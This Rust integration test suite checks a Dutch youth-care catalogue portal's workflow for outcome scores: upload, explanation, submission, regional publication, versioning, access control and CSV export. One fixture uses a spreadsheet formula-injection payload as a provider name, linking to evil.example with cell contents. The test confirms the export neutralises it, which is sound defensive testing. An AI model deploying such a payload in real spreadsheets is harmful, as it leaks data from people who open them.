//! From trajectories to published scores: the provider reviews, explains and submits; the
//! region's contract manager publishes; the public sees n and interval. Nobody sees another
//! provider's numbers before publication.

mod common;

use common::{Browser, ProviderSpec, TestApp, spawn_app};
use jeugdhulpcatalogus::accounts::{Affiliation, Role};
use jeugdhulpcatalogus::outcomes::compute::Quarter;

const PASSWORD: &str = "een lange zin als wachtwoord";
use common::reports::HEADER;

fn quarter() -> Quarter {
    common::reports::last_quarter()
}

/// `rows` trajectories that ended in the last complete quarter: reasons 1-5 in turn (so 3 in 5
/// are uitval), all goals reached, satisfaction 1-10 in turn.
fn csv(rows: usize) -> String {
    csv_from(0, rows)
}

/// [`csv`] numbered from `first`: more trajectories of the same provider.
fn csv_from(first: usize, rows: usize) -> String {
    let end = quarter().last_day() - chrono::TimeDelta::days(10);
    let start = end - chrono::TimeDelta::days(120);
    let mut csv = format!("{HEADER}\n");
    for i in first..first + rows {
        csv.push_str(&format!(
            "T-{i},delft,3,intensief,{start},{end},{},behaald,client-{i},12-17,vrijwillig,{}\n",
            1 + i % 5,
            1 + i % 10
        ));
    }
    csv
}

async fn provider(app: &TestApp, name: &str, email: &str, rows: usize) -> Browser {
    let slug = app.add_provider(ProviderSpec::admitted_in_delft(name, 3));
    let id = app.provider_id(&slug);
    app.add_user(email, PASSWORD, Role::Aanbieder, Affiliation::Provider(id));
    let browser = app.browser();
    browser.login(email, PASSWORD).await;
    if rows > 0 {
        upload(&browser, csv(rows)).await;
    }
    browser
}

use common::reports::upload;

/// The figures a report page shows, as its form carries them.
fn figures_seen(page: &str) -> String {
    page.split("name=\"cijfers\" value=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("the form carries the figures it shows")
        .to_owned()
}

async fn open_report(app: &TestApp, browser: &Browser) -> String {
    common::reports::open(app, browser).await
}

/// Opens the provider's report of the last quarter and submits it; returns its address.
async fn submitted_report(app: &TestApp, browser: &Browser) -> String {
    let report = open_report(app, browser).await;
    common::reports::submit(browser, &report).await;
    report
}

/// The Haaglanden contract manager (cm@haaglanden.example) publishes the report.
async fn publish(app: &TestApp, report: &str) {
    let manager = app.browser();
    manager.login("cm@haaglanden.example", PASSWORD).await;
    common::reports::publish(&manager, report).await;
}

#[tokio::test]
async fn scores_are_reviewed_explained_submitted_published_and_then_public() {
    let app = spawn_app().await;
    let haaglanden = app.region_id("haaglanden");
    app.add_user(
        "cm@haaglanden.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(haaglanden),
    );
    app.add_user(
        "cm@wbw.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(app.region_id("west-brabant-west")),
    );
    let kompas = provider(&app, "De Kompas", "a@kompas.example", 25).await;
    let anker = provider(&app, "Het Anker", "b@anker.example", 9).await;

    // Only quarters that are over, and no more than two years back.
    let region = haaglanden.to_string();
    let mut to_come = quarter();
    let mut too_old = quarter();
    for _ in 0..8 {
        too_old = too_old.previous();
    }
    let two_years = (0..7).fold(quarter(), |q, _| q.previous());
    while to_come <= quarter() {
        to_come = Quarter::of(to_come.last_day() + chrono::TimeDelta::days(1));
    }
    for (period, refused) in [
        ("1900-K1".to_owned(), true),
        (too_old.code(), true),
        (to_come.code(), true),
        (two_years.code(), false),
    ] {
        let (status, _, body) = kompas
            .post(
                "/mijn-aanbod/cijfers",
                &[("regio", region.as_str()), ("kwartaal", period.as_str())],
            )
            .await;
        if refused {
            assert_ne!(status, 303, "{period}: {body}");
            assert!(
                body.contains("Kies een kwartaal dat voorbij is"),
                "{period}: {body}"
            );
        } else {
            assert_eq!(status, 303, "{period}: {body}");
        }
    }

    let report = open_report(&app, &kompas).await;
    let (status, page) = kompas.get(&report).await;
    assert_eq!(status, 200);
    assert!(page.contains("Voortijdig gestopt (uitval)"));
    assert!(
        page.contains("<strong>60%</strong>"),
        "15 of 25 stopped early"
    );
    assert!(page.contains("<td>25</td>"));

    // Before publication nobody else sees these numbers.
    assert_eq!(anker.get(&report).await.0, 404, "another provider");
    let anker_report = open_report(&app, &anker).await;
    let (_, anker_page) = anker.get(&anker_report).await;
    assert!(anker_page.contains("Te weinig gegevens (minder dan 10 trajecten: 9)"));
    assert!(!anker_page.contains("60%"));
    let (_, public) = app.get_html("/aanbieders/de-kompas").await;
    assert!(public.contains("Er zijn nog geen gepubliceerde cijfers"));
    let (_, api) = app.get_json("/api/v1/providers/de-kompas/scores").await;
    assert_eq!(api["items"].as_array().map(Vec::len), Some(0));

    // Explain and submit.
    let profile = jeugdhulpcatalogus::db::schema::profiles::table;
    let profile_id: i64 = {
        use diesel::prelude::*;
        profile
            .filter(jeugdhulpcatalogus::db::schema::profiles::region_id.eq(haaglanden))
            .filter(jeugdhulpcatalogus::db::schema::profiles::number.eq(3))
            .select(jeugdhulpcatalogus::db::schema::profiles::id)
            .first(&mut *app.conn())
            .expect("profile")
    };
    let field = format!("uitleg-{profile_id}");
    let story = "Veel gezinnen verhuisden dit jaar; daardoor stopte de hulp vaker.";
    let (status, _, _) = kompas
        .post(&format!("{report}/uitleg"), &[(field.as_str(), story)])
        .await;
    assert_eq!(status, 303);
    let (status, _, _) = kompas.post(&format!("{report}/indienen"), &[]).await;
    assert_eq!(status, 303);
    let (_, _, body) = kompas.post(&format!("{report}/indienen"), &[]).await;
    assert!(
        body.contains("al ingediend"),
        "submitting twice changes nothing"
    );
    app.mail_exactly("cm@haaglanden.example", 1);

    // The contract manager of another region cannot decide; the own one can.
    let id = report.rsplit('/').next().expect("id");
    let manager_path = format!("/beheer/scores/rapporten/{id}");
    let other = app.browser();
    other.login("cm@wbw.example", PASSWORD).await;
    assert_eq!(other.get(&manager_path).await.0, 403);
    assert_eq!(
        other
            .post(&manager_path, &[("besluit", "publiceren")])
            .await
            .0,
        403
    );
    assert_eq!(
        kompas.get(&manager_path).await.0,
        403,
        "a provider cannot publish itself"
    );
    let manager = app.browser();
    manager.login("cm@haaglanden.example", PASSWORD).await;
    let (status, _, body) = manager
        .post(
            &manager_path,
            &[("besluit", "terugsturen"), ("opmerking", "")],
        )
        .await;
    assert_eq!(status, 422);
    assert!(body.contains("Schrijf op wat de aanbieder moet aanpassen."));
    // Sorted lists asked for before publication are kept by the catalogue cache; the
    // publication must replace them (checked below).
    for order in ["uitval", "doelrealisatie", "tevredenheid", "terugval"] {
        let path = format!("/api/v1/providers?profiel=3&gemeente=delft&volgorde={order}");
        assert_eq!(app.get_json(&path).await.0, 200);
    }
    let (status, location, _) = manager
        .post(
            &manager_path,
            &[("besluit", "publiceren"), ("opmerking", "")],
        )
        .await;
    assert_eq!(
        (status, location),
        (303, format!("/beheer/scores/rapporten?gepubliceerd={id}"))
    );
    let (_, confirmed) = manager
        .get(&format!("/beheer/scores/rapporten?gepubliceerd={id}"))
        .await;
    assert!(
        confirmed.contains("Gepubliceerd.") && confirmed.contains("De Kompas"),
        "the manager is told what was published: {confirmed}"
    );
    app.mail_exactly("a@kompas.example", 1);

    // Public now: value, n, interval, regional average and the story.
    let (_, public) = app.get_html("/aanbieders/de-kompas").await;
    assert!(public.contains("<strong>60%</strong>"));
    assert!(public.contains("<td>25</td>"));
    assert!(
        public.contains("41% tot 77%"),
        "the Wilson interval of 15/25"
    );
    assert!(public.contains(story));
    assert!(public.contains("Tevredenheid"));
    let (_, api) = app.get_json("/api/v1/providers/de-kompas/scores").await;
    let uitval = api["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|i| i["indicator"] == "uitval")
        .expect("uitval")
        .clone();
    assert_eq!(uitval["n"], 25);
    assert_eq!(uitval["version"], 1);
    // One regiogemiddelde on every page: the funnel's target over the providers with at least
    // 10 trajectories (De Kompas alone: 60%), not the plain average that counts Het Anker's 9
    // too (20 of 34, 59%), which the open data carries under its own name.
    assert_eq!(uitval["target"], 0.6);
    let plain = uitval["mean_all_providers"]
        .as_f64()
        .expect("plain average");
    assert!((plain - 20.0 / 34.0).abs() < 1e-9, "{plain}");
    assert!(
        public.contains("<th scope=\"col\">Regiogemiddelde</th>")
            && public.contains("<td>60%</td>"),
        "the provider page: {public}"
    );
    let (status, compared) = app
        .get_html("/vergelijk?profiel=3&aanbieder=de-kompas&aanbieder=het-anker")
        .await;
    assert_eq!(status, 200);
    assert!(
        compared.contains("Regiogemiddelde: 60%") && !compared.contains("59%"),
        "the comparison: {compared}"
    );
    // Providers in one comparison can have reports of different quarters, each with its own
    // reference: the comparison says which quarter (walk of 2026-12-06).
    assert!(
        compared.contains(&format!("Regiogemiddelde: 60% ({})", quarter().label())),
        "the reference's quarter: {compared}"
    );
    let csv = app
        .get("/api/v1/scores.csv")
        .await
        .text()
        .await
        .expect("csv");
    assert!(
        csv.lines()
            .any(|l| l.starts_with("de-kompas,De Kompas,") && l.contains(",uitval,"))
    );
    assert!(
        !csv.contains("het-anker"),
        "unpublished numbers stay out of the open data"
    );

    // The catalogue sorts on a published indicator: providers with a value first.
    app.add_provider(ProviderSpec::admitted_in_delft("Aanloop", 3));
    for order in ["uitval", "doelrealisatie", "tevredenheid", "terugval"] {
        let (status, list) = app
            .get_json(&format!(
                "/api/v1/providers?profiel=3&gemeente=delft&volgorde={order}"
            ))
            .await;
        assert_eq!(status, 200);
        // Het Anker (too few trajectories) and Aanloop (none) come after De Kompas in the
        // day's order, whatever the alphabet says (issue 34, item 10; the two-order check
        // that no shuffle passes is in a_publication_puts_the_provider_first_…).
        let slugs = common::slugs(&list);
        assert_eq!(slugs[0], "de-kompas", "{order}: {slugs:?}");
        let mut rest = slugs[1..].to_vec();
        rest.sort();
        assert_eq!(rest, ["aanloop", "het-anker"], "{order}");
        assert_eq!(list["order"], order);
    }
    let (status, body) = app.get_json("/api/v1/providers?volgorde=uitval").await;
    assert_eq!(status, 400);
    assert!(
        body["message"]
            .as_str()
            .is_some_and(|m| m.contains("Kies eerst een profiel"))
    );
    let (status, html) = app
        .get_html("/catalogus?profiel=3&gemeente=delft&volgorde=uitval")
        .await;
    assert_eq!(status, 200);
    assert!(html.contains("Gesorteerd op voortijdig gestopt"));
    // The cards show the results families choose on (issue 33, item 21): the published
    // value with its count, and nothing made up for a provider without a publication.
    assert!(
        html.contains("Voortijdig gestopt (uitval): <strong>60%</strong> (25 trajecten)"),
        "{html}"
    );
    assert!(
        html.contains("Resultaten voor profiel 3: nog geen gepubliceerde cijfers."),
        "{html}"
    );

    // A correction is a new version; the published one stays public meanwhile.
    let (status, location, _) = kompas
        .post(
            &format!("{report}/correctie"),
            &[("reden", "Twee trajecten dubbel geteld.")],
        )
        .await;
    assert_eq!(status, 303);
    assert_ne!(location, report);
    let (_, api) = app.get_json("/api/v1/providers/de-kompas/scores").await;
    assert_eq!(api["items"][0]["version"], 1);
    // Version 2 exists, is submitted and published, and then is what the API gives (issue 34,
    // item 9: the test stopped at the redirect).
    let (status, page) = kompas.get(&location).await;
    assert_eq!(status, 200, "{page}");
    assert!(page.contains("Twee trajecten dubbel geteld."), "{page}");
    assert_eq!(
        kompas.post(&format!("{location}/indienen"), &[]).await.0,
        303
    );
    publish(&app, &location).await;
    let (_, api) = app.get_json("/api/v1/providers/de-kompas/scores").await;
    let versions: std::collections::BTreeSet<i64> = api["items"]
        .as_array()
        .expect("items")
        .iter()
        .filter_map(|i| i["version"].as_i64())
        .collect();
    assert_eq!(versions, [2].into(), "{api}");
    let (_, about) = app.get_html("/over-de-cijfers").await;
    assert!(about.contains("Wilson"));

    // Suspended: its page answers 404, and the open data drops its rows too (issue 33,
    // item 24).
    jeugdhulpcatalogus::providers::model::set_admission(
        &mut app.conn(),
        app.provider_id("de-kompas"),
        haaglanden,
        jeugdhulpcatalogus::providers::AdmissionStatus::Opgeschort,
        None,
    )
    .expect("suspended");
    assert_eq!(app.get_html("/aanbieders/de-kompas").await.0, 404);
    let csv = app
        .get("/api/v1/scores.csv")
        .await
        .text()
        .await
        .expect("csv");
    assert!(!csv.contains("de-kompas"), "{csv}");
}

#[tokio::test]
async fn a_full_recomputation_gives_what_the_uploads_computed() {
    use diesel::prelude::*;
    use jeugdhulpcatalogus::db::schema::computed_scores as cs;
    use jeugdhulpcatalogus::outcomes::compute::ScoreSet;
    fn all(app: &TestApp) -> Vec<ScoreSet> {
        let mut sets: Vec<ScoreSet> = cs::table
            .order((cs::provider_id, cs::profile_id, cs::period, cs::span))
            .select(ScoreSet::as_select())
            .load(&mut *app.conn())
            .expect("scores");
        // Only the time of computing may differ.
        for set in &mut sets {
            set.computed_at = chrono::NaiveDateTime::default();
        }
        sets
    }
    let app = spawn_app().await;
    provider(&app, "De Kompas", "a@kompas.example", 25).await;
    provider(&app, "Het Anker", "b@anker.example", 12).await;
    let incremental = all(&app);
    // Both providers, each with every quarter that holds an ended trajectory.
    assert!(incremental.len() >= 2, "{}", incremental.len());
    assert!(incremental.iter().all(|s| {
        s.get(jeugdhulpcatalogus::domain::indicator::Indicator::Uitval)
            .n
            > 0
    }));
    fn funnels(app: &TestApp) -> Vec<(i64, i64, String, String, String, i32)> {
        use jeugdhulpcatalogus::db::schema::funnels as f;
        f::table
            .order((
                f::region_id,
                f::profile_id,
                f::period,
                f::span,
                f::indicator,
            ))
            .select((
                f::region_id,
                f::profile_id,
                f::period,
                f::span,
                f::indicator,
                f::providers,
            ))
            .load(&mut *app.conn())
            .expect("funnels")
    }
    let written =
        jeugdhulpcatalogus::outcomes::compute::recompute_all(&mut app.conn()).expect("recompute");
    assert_eq!(written, incremental.len());
    assert_eq!(all(&app), incremental);
    let sequential_funnels = funnels(&app);
    assert!(!sequential_funnels.is_empty());
    // The pipelined recomputation (two connections, one transaction) gives the same.
    let written = jeugdhulpcatalogus::outcomes::compute::recompute_all_pipelined(&app.db)
        .expect("pipelined recompute");
    assert_eq!(written, incremental.len());
    assert_eq!(all(&app), incremental);
    assert_eq!(funnels(&app), sequential_funnels);
}

#[tokio::test]
async fn contract_managers_see_their_own_region_on_the_dashboard_and_can_export_it() {
    let app = spawn_app().await;
    app.add_user(
        "cm@haaglanden.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(app.region_id("haaglanden")),
    );
    app.add_user(
        "cm@wbw.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(app.region_id("west-brabant-west")),
    );
    let kompas = provider(&app, "De Kompas", "a@kompas.example", 25).await;
    provider(&app, "Het Anker", "b@anker.example", 9).await;
    // A name from before registration refused formulas: the export writes it as text.
    provider(
        &app,
        "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klik hier\")",
        "c@formule.example",
        25,
    )
    .await;
    // The funnels the dashboard reads, refreshed now rather than by the job runner's round.
    jeugdhulpcatalogus::outcomes::fair::refresh_stale(&mut app.conn()).expect("refresh");

    let manager = app.browser();
    manager.login("cm@haaglanden.example", PASSWORD).await;
    let (status, page) = manager
        .get("/beheer/scores?profiel=3&indicator=uitval")
        .await;
    assert_eq!(status, 200);
    assert!(page.contains("De Kompas") && page.contains("60%"));
    assert!(page.contains("Het Anker") && page.contains("te weinig gegevens"));
    let response = manager
        .client
        .get(format!(
            "{}/beheer/scores/export.csv?profiel=3&indicator=uitval",
            app.address
        ))
        .send()
        .await
        .expect("sent");
    let disposition = response
        .headers()
        .get("content-disposition")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    assert!(
        disposition.contains(&format!(
            "filename=\"scores-haaglanden-{}-profiel-3-uitval.csv\"",
            quarter().code()
        )),
        "the file name says region and period: {disposition}"
    );
    let bytes = response.bytes().await.expect("csv");
    // What Dutch Excel opens in columns: a UTF-8 byte-order mark, semicolons, decimal commas.
    let csv = std::str::from_utf8(&bytes)
        .expect("utf-8")
        .strip_prefix('\u{feff}')
        .expect("a byte-order mark");
    let header: Vec<&str> = csv.lines().next().expect("header").split(';').collect();
    for column in [
        "regiogemiddelde",
        "trechter_95_laag",
        "trechter_95_hoog",
        "vergeleken",
    ] {
        assert!(header.contains(&column), "{column}: {header:?}");
    }
    assert!(
        csv.lines()
            .any(|l| l.starts_with("\"'=HYPERLINK(\"\"http://evil.example/")),
        "a formula is written as text: {csv}"
    );
    let kompas_row: Vec<&str> = csv
        .lines()
        .find(|l| l.starts_with("De Kompas;"))
        .expect("De Kompas")
        .split(';')
        .collect();
    let cell = |name: &str| kompas_row[header.iter().position(|h| *h == name).expect(name)];
    assert_eq!(
        (cell("indicator"), cell("n"), cell("uitkomst")),
        ("uitval", "25", "0,6000")
    );
    // One regiogemiddelde: the page's is the export's (the funnel's target over the providers
    // with at least 10 trajectories, 60% here; the plain average with Het Anker's 9 would be
    // 35 of 59, 59%).
    let page_reference = page
        .split("Regiogemiddelde: <strong>")
        .nth(1)
        .and_then(|rest| rest.split('<').next())
        .expect("the page names the regiogemiddelde");
    let export_reference: f64 = cell("regiogemiddelde")
        .replace(',', ".")
        .parse()
        .expect("a number");
    assert_eq!(page_reference, "60%");
    assert_eq!(format!("{:.0}%", export_reference * 100.0), page_reference);

    let other = app.browser();
    other.login("cm@wbw.example", PASSWORD).await;
    let (status, page) = other
        .get("/beheer/scores?regio=haaglanden&profiel=3&indicator=uitval")
        .await;
    assert_eq!(status, 200);
    assert!(
        !page.contains("De Kompas"),
        "a contract manager sees only its own region"
    );
    assert_eq!(kompas.get("/beheer/scores").await.0, 403);
}

/// Publishing reaches the catalogue's sort on results at once, and a database whose
/// published values were lost (publications from before publishing refreshed them) is
/// repaired when the portal starts.
#[tokio::test]
async fn a_publication_puts_the_provider_first_on_results_also_after_a_restart() {
    use diesel::prelude::*;
    use jeugdhulpcatalogus::db::schema::published_scores;
    let app = spawn_app().await;
    app.add_user(
        "cm@haaglanden.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(app.region_id("haaglanden")),
    );
    // Names chosen so that the alphabet would put the published providers last. Two are
    // published and rank differently on uitval and on satisfaction, so neither a day's
    // shuffle nor the alphabet gives both orders (issue 34, item 10).
    app.add_provider(ProviderSpec::admitted_in_delft("Aardig Jeugdwerk", 3));
    let zorg = provider(&app, "Zuiderzorg", "z@zuiderzorg.example", 25).await;
    let report = submitted_report(&app, &zorg).await;
    let ster = provider(&app, "Zonnester", "z@zonnester.example", 0).await;
    // Four in five stopped early (uitval 80%, Zuiderzorg has 60%); every family gave a 9
    // (Zuiderzorg's marks average 5.5).
    let file = common::reports::trajectories("S", 3, 25, |i| {
        (if i % 5 == 0 { 1 } else { 3 }, "behaald", 9)
    });
    upload(&ster, file).await;
    let other = submitted_report(&app, &ster).await;
    publish(&app, &report).await;
    publish(&app, &other).await;
    let expected = [
        ("uitval", ["zuiderzorg", "zonnester", "aardig-jeugdwerk"]),
        (
            "tevredenheid",
            ["zonnester", "zuiderzorg", "aardig-jeugdwerk"],
        ),
    ];
    for (order, slugs) in expected {
        let path = format!("/api/v1/providers?profiel=3&gemeente=delft&volgorde={order}");
        let (_, list) = app.get_json(&path).await;
        assert_eq!(common::slugs(&list), slugs, "{order}");
    }

    // Lose the published values, as databases from before the fix had them, and start again.
    diesel::delete(published_scores::table)
        .execute(&mut *app.conn())
        .expect("emptied");
    let mut config = jeugdhulpcatalogus::config::Config::for_database(app.database_url());
    config.today = common::test_today();
    jeugdhulpcatalogus::startup::prepare_database(&config).expect("started again");
    let kept: i64 = published_scores::table
        .count()
        .get_result(&mut *app.conn())
        .expect("count");
    assert!(kept > 0, "the start rebuilt the published values");
    for (order, slugs) in expected {
        let path = format!("/api/v1/providers?profiel=3&gemeente=delft&volgorde={order}");
        let (_, list) = app.get_json(&path).await;
        assert_eq!(common::slugs(&list), slugs, "{order} after the restart");
    }
}

/// A report is a snapshot: the page shows the figures as they are now, and what the provider
/// saw when it explained is what is submitted; figures that changed after the page was drawn
/// are shown, not swapped in silently.
#[tokio::test]
async fn what_the_provider_explained_is_what_it_submits() {
    let app = spawn_app().await;
    let kompas = provider(&app, "De Kompas", "a@kompas.example", 25).await;
    let report = open_report(&app, &kompas).await;
    let (_, page) = kompas.get(&report).await;
    assert!(page.contains("<td>25</td>"), "{page}");
    // The report names its region: a quarter has one per region (issue 33, item 40).
    let heading = format!("<h1>Rapport {}, regio Haaglanden</h1>", quarter().label());
    assert!(page.contains(&heading), "{page}");
    let (_, list) = kompas.get("/mijn-aanbod/cijfers").await;
    assert!(list.contains(", regio Haaglanden, versie 1"), "{list}");

    // Two more trajectories of the quarter: the opened report shows them.
    upload(&kompas, csv_from(100, 2)).await;
    let (_, page) = kompas.get(&report).await;
    assert!(page.contains("<td>27</td>") && !page.contains("<td>25</td>"));
    let seen = figures_seen(&page);

    // Two more while the page is open: submitting what was seen is refused, with the new
    // figures and the explanation that was typed.
    upload(&kompas, csv_from(200, 2)).await;
    let story = "Wij leggen 27 trajecten uit.";
    let (status, _, body) = kompas
        .post(
            &format!("{report}/uitleg"),
            &[
                ("actie", "indienen"),
                ("cijfers", seen.as_str()),
                (&format!("uitleg-{}", profile_id(&app)), story),
            ],
        )
        .await;
    assert_eq!(status, 422, "{body}");
    assert!(body.contains("Uw cijfers zijn veranderd sinds u deze pagina opende"));
    assert!(
        body.contains("<td>29</td>") && body.contains(story),
        "{body}"
    );
    let (_, page) = kompas.get(&report).await;
    assert!(
        page.contains("<strong>concept</strong>"),
        "not submitted: {page}"
    );

    // Submitted as now seen: the stored report is what the page showed.
    let seen = figures_seen(&body);
    let (status, _, body) = kompas
        .post(
            &format!("{report}/uitleg"),
            &[("actie", "indienen"), ("cijfers", seen.as_str())],
        )
        .await;
    assert_eq!(status, 303, "{body}");
    let (_, page) = kompas.get(&report).await;
    assert!(
        page.contains("<strong>ingediend") && page.contains("<td>29</td>"),
        "{page}"
    );
    assert_eq!(figures_seen_of_stored(&app, &report), seen);
}

fn profile_id(app: &TestApp) -> i64 {
    use diesel::prelude::*;
    use jeugdhulpcatalogus::db::schema::profiles;
    profiles::table
        .filter(profiles::region_id.eq(app.region_id("haaglanden")))
        .filter(profiles::number.eq(3))
        .select(profiles::id)
        .first(&mut *app.conn())
        .expect("profile")
}

fn figures_seen_of_stored(app: &TestApp, report: &str) -> String {
    use jeugdhulpcatalogus::outcomes::reports;
    let id: i64 = report
        .rsplit('/')
        .next()
        .and_then(|i| i.parse().ok())
        .expect("id");
    reports::figures_seen(&reports::scores_of(&mut app.conn(), id).expect("scores"))
}

/// A report that is submitted but not published shows nowhere, though its provider has more
/// than enough trajectories for every figure (issue 34, item 1: with 9 trajectories the floor
/// of 10 hid them anyway, so the old check could not fail).
#[tokio::test]
async fn a_submitted_report_is_public_nowhere_until_it_is_published() {
    let app = spawn_app().await;
    app.add_user(
        "cm@haaglanden.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(app.region_id("haaglanden")),
    );
    // Published: 25 trajectories. Submitted only: 30, and named to come first alphabetically.
    let shown = provider(&app, "Zichtbaar", "z@zichtbaar.example", 25).await;
    // Its trajectories are better on every result than the published one's: were unpublished
    // figures sorted on, it would come first, not tie (review of issue 34).
    let hidden = provider(&app, "Aanstaand", "a@aanstaand.example", 0).await;
    let better = common::reports::trajectories("B", 3, 30, |_| (1, "behaald", 10));
    upload(&hidden, better).await;
    let report = submitted_report(&app, &shown).await;
    submitted_report(&app, &hidden).await;
    publish(&app, &report).await;

    // Open data.
    let csv = app
        .get("/api/v1/scores.csv")
        .await
        .text()
        .await
        .expect("csv");
    assert!(csv.contains("zichtbaar,"), "the published one is there");
    assert!(!csv.contains("aanstaand"), "{csv}");
    let (_, api) = app.get_json("/api/v1/providers/aanstaand/scores").await;
    assert!(api["items"].as_array().is_none_or(Vec::is_empty), "{api}");
    let (_, api) = app.get_json("/api/v1/providers/zichtbaar/scores").await;
    assert!(api["items"].as_array().is_some_and(|i| !i.is_empty()));
    // HSDS: outcome attributes only on the published provider's services.
    let organizations = app
        .get("/hsds/organizations?format=ndjson")
        .await
        .text()
        .await
        .expect("ndjson");
    let organization_of = |name: &str| {
        organizations
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .find(|o| o["name"] == name)
            .map(|o| o["id"].clone())
            .unwrap_or_else(|| panic!("no organization {name}"))
    };
    let services = app
        .get("/hsds/services?format=ndjson")
        .await
        .text()
        .await
        .expect("ndjson");
    let outcome_attributes = |name: &str| {
        let organization = organization_of(name);
        services
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .filter(|s| s["organization_id"] == organization)
            .flat_map(|s| s["attributes"].as_array().cloned().unwrap_or_default())
            .filter(|a| a["taxonomy_term"]["taxonomy"] == "Gepubliceerde uitkomsten")
            .count()
    };
    assert!(outcome_attributes("Zichtbaar") > 0);
    assert_eq!(outcome_attributes("Aanstaand"), 0);
    // The pages.
    let (_, page) = app.get_html("/aanbieders/aanstaand").await;
    assert!(
        page.contains("Er zijn nog geen gepubliceerde cijfers"),
        "{page}"
    );
    let (_, compared) = app
        .get_html("/vergelijk?profiel=3&aanbieder=aanstaand&aanbieder=zichtbaar")
        .await;
    assert_eq!(
        compared.matches("Regiogemiddelde: ").count() / 2,
        4,
        "{compared}"
    );
    // Sorted on a result: the published one first, though the alphabet says otherwise.
    for order in ["uitval", "doelrealisatie", "tevredenheid", "terugval"] {
        let (_, list) = app
            .get_json(&format!(
                "/api/v1/providers?profiel=3&gemeente=delft&volgorde={order}"
            ))
            .await;
        assert_eq!(common::slugs(&list), ["zichtbaar", "aanstaand"], "{order}");
    }
}

/// A published report keeps the reference data it was published with (issue 35): after the
/// region renames the profile and merges Delft into another municipality, the report's
/// pages (provider, contract manager, public provider page) still show the names of the day
/// of publication; a new concept shows the new ones.
#[actix_web::test]
async fn a_published_report_keeps_its_profile_names_and_municipalities() {
    let app = spawn_app().await;
    let haaglanden = app.region_id("haaglanden");
    app.add_user(
        "cm@haaglanden.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(haaglanden),
    );
    let admin = app
        .signed_in_user("beheer@regio.example", Role::Beheerder, Affiliation::None)
        .await;
    let kompas = provider(&app, "De Kompas", "a@kompas.example", 25).await;
    let report = submitted_report(&app, &kompas).await;
    publish(&app, &report).await;
    let id = report.rsplit('/').next().expect("id").to_owned();
    let profile: i64 = {
        use diesel::prelude::*;
        use jeugdhulpcatalogus::db::schema::profiles;
        profiles::table
            .filter(profiles::region_id.eq(haaglanden))
            .filter(profiles::number.eq(3))
            .select(profiles::id)
            .first(&mut *app.conn())
            .expect("profile")
    };
    let (_, before) = kompas.get(&report).await;
    let old_name = "Jeugdigen met ouders met een ziekte of beperking";
    assert!(before.contains(old_name), "{before}");
    assert!(before.contains("zoals ze waren op"), "{before}");

    let (status, _, _) = admin
        .post(
            &format!("/beheer/regios/haaglanden/profielen/{profile}"),
            &[
                ("naam", "Een nieuwe naam"),
                ("omschrijving", "Nieuwe uitleg."),
            ],
        )
        .await;
    assert_eq!(status, 303);
    let delft = app.municipality_id("delft").to_string();
    let rijswijk = app.municipality_id("rijswijk").to_string();
    let today = jeugdhulpcatalogus::clock::today().to_string();
    let (status, _, page) = admin
        .post(
            "/beheer/gemeenten/samenvoegen",
            &[("gemeente", &delft), ("in", &rijswijk), ("datum", &today)],
        )
        .await;
    assert_eq!(status, 303, "{page}");

    let manager = app.browser();
    manager.login("cm@haaglanden.example", PASSWORD).await;
    let slug = "de-kompas";
    for (who, page) in [
        ("provider", kompas.get(&report).await.1),
        (
            "manager",
            manager
                .get(&format!("/beheer/scores/rapporten/{id}"))
                .await
                .1,
        ),
        (
            "public",
            app.browser().get(&format!("/aanbieders/{slug}")).await.1,
        ),
    ] {
        assert!(page.contains(old_name), "{who}: {page}");
        assert!(!page.contains("Een nieuwe naam"), "{who}");
    }
    let (_, page) = kompas.get(&report).await;
    assert!(page.contains("Delft, "), "Delft as it was: {page}");

    // The profile page and a new concept show the new name.
    let (_, public) = app.browser().get("/profielen/3").await;
    assert!(public.contains("Een nieuwe naam"), "{public}");
}
